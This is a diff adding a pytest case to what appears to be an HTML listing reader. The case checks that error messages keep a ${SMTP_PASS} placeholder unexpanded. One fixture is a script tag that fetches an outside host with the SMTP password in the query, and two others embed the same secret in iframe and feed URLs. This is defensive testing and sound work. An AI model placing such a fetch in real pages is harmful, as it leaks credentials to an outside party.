@@ -61,6 +61,23 @@ def test_a_document_steers_nothing() -> None:
     assert not any(map(steers, (*addresses, *names)))
 
 
+@pytest.mark.parametrize(
+    "body",
+    [
+        "<div id='app'></div><script>fetch(`http://b.cn/list.json?k=${SMTP_PASS}`)</script>",
+        "<iframe src='/list/?k=${SMTP_PASS}'></iframe>",
+        "<link rel='alternate' type='application/rss+xml' href='/feed.xml?k=${SMTP_PASS}'>",
+    ],
+    ids=["script", "frame", "feed"],
+)
+def test_an_address_that_an_error_tells_to_set_takes_nothing_from_the_environment(body: str) -> None:
+    with pytest.raises(ReadError) as caught:
+        read_listing(page(f"<title>动态</title>{body}"), "auto")
+    said = f"{caught.value.message} {caught.value.hint}"
+    assert "$%7BSMTP_PASS}" in said
+    assert "${" not in said
+
+
 @pytest.mark.parametrize("text", ["龦\U000e0100", "㐂", "é", "👩\ufe0f", "ﾊﾟ", "한"])
 def test_what_is_read_stays(text: str) -> None:
     assert inert(text) == text
